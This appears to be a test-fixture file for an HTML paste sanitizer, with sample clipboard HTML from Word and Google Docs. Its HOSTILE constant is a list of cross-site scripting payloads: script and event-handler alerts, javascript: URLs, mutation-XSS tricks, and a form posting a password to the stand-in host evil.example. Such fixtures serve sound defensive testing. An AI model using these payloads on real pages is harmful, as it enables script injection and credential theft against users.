/** As Word 365 puts a text on the clipboard: a heading, a nested list, a table, a note, a tracked space. */
export const WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style>
<!-- p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm;} @list l0 {mso-list-id:1;} -->
</style>
</head>
<body lang=EN-GB style='tab-interval:36.0pt'>
<!--StartFragment-->
<h1><b><span style='mso-fareast-font-family:"Times New Roman"'>What the register<o:p></o:p></span></b></h1>
<p class=MsoNormal style='margin-bottom:8.0pt'><span lang=EN-US>The call came at <b>16:40</b> on a
<i>Friday</i>,<span style='mso-spacerun:yes'>  </span>as <s>all</s> such calls do.<a
style='mso-footnote-id:ftn1' href="#_ftn1" name="_ftnref1" title=""><span class=MsoFootnoteReference>[1]</span></a><o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Who decides<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp; </span></span></span><![endif]>By day</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp; </span></span><![endif]>Who is told</p>
<h2>Figures</h2>
<table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse'>
 <tr style='mso-yfti-irow:0'><td width=301 valign=top style='width:225.4pt;border:solid windowtext 1.0pt'><p class=MsoNormal>Near misses<o:p></o:p></p></td><td colspan=2 width=301><p class=MsoNormal>212</p></td></tr>
</table>
<p class=MsoNormal><a href="https://example.com/report">The report</a> <img width=1 src="file:///C:/Users/jo/image001.png" v:shapes="x"></p>
<!--EndFragment-->
<div style='mso-element:footnote-list'><![if !supportFootnotes]><br clear=all>
<hr align=left size=1 width="33%">
<![endif]>
<div style='mso-element:footnote' id=ftn1>
<p class=MsoFootnoteText><a style='mso-footnote-id:ftn1' href="#_ftnref1" name="_ftn1" title=""><span class=MsoFootnoteReference><span style='mso-special-character:footnote'><![if !supportFootnotes]><span class=MsoFootnoteReference>[1]</span><![endif]></span></span></a>
By the <b>log</b> of the duty desk, <a href="https://example.com/log">page 3</a>.</p>
</div>
</div>
</body>
</html>`;

/** As Google Docs does: one `b` around everything, styles on spans, nested lists beside their items. */
export const GOOGLE_DOCS = `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5b1f7d1e-7fff-1b6f"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-family:Arial,sans-serif;font-weight:400;white-space:pre-wrap;">What the register</span></h2><p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;font-weight:400;font-style:normal;text-decoration:none;">The call came at </span><span style="font-size:11pt;font-weight:700;font-style:normal;">16:40</span><span style="font-weight:400;"> on a </span><span style="font-weight:400;font-style:italic;">Friday</span><span style="font-weight:400;">, as </span><span style="font-weight:400;text-decoration:line-through;">all</span><span style="font-weight:400;"> such </span><a href="https://www.google.com/url?q=https://example.com/report&amp;sa=D&amp;source=editors&amp;ust=1" style="text-decoration:none;"><span style="color:#1155cc;text-decoration:underline;">calls</span></a><span> do.</span></p><br><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;">Who decides</span></p></li><ul style="margin-top:0;"><li dir="ltr" aria-level="2"><p dir="ltr" role="presentation"><span>By day</span></p></li></ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span>Who is told</span></p></li></ul><div dir="ltr" style="margin-left:0pt;" align="left"><table style="border:none;"><colgroup><col width="301" /></colgroup><tbody><tr style="height:0pt"><td style="border-left:solid #000000 1pt;"><p dir="ltr"><span>Near misses</span></p></td><td><p dir="ltr"><span>212</span></p></td></tr></tbody></table></div></b><br class="Apple-interchange-newline">`;

/** What a page could put on the clipboard of somebody who copies a line of it. */
export const HOSTILE = `<p onclick="alert(1)">One<script>alert(2)</script><img src=x onerror="alert(3)"><a href="javascript:alert(4)">two</a><a href=" java&#10;script:alert(5)">three</a><a href="data:text/html,<script>alert(6)</script>">four</a></p><p style="background:url(https://evil.example)">seven</p><base href="https://evil.example"><a href="//evil.example">eight</a><svg><a xlink:href="javascript:alert(7)"><text>five</text></a></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;"></table></mtext></math><iframe srcdoc="<script>alert(9)</script>"></iframe><form action="https://evil.example"><input name=password><button>six</button></form><style>*{background:url(https://evil.example)}</style><template><img src=x onerror=alert(10)></template><noscript><p title="</noscript><img src=x onerror=alert(11)>"></noscript>`;
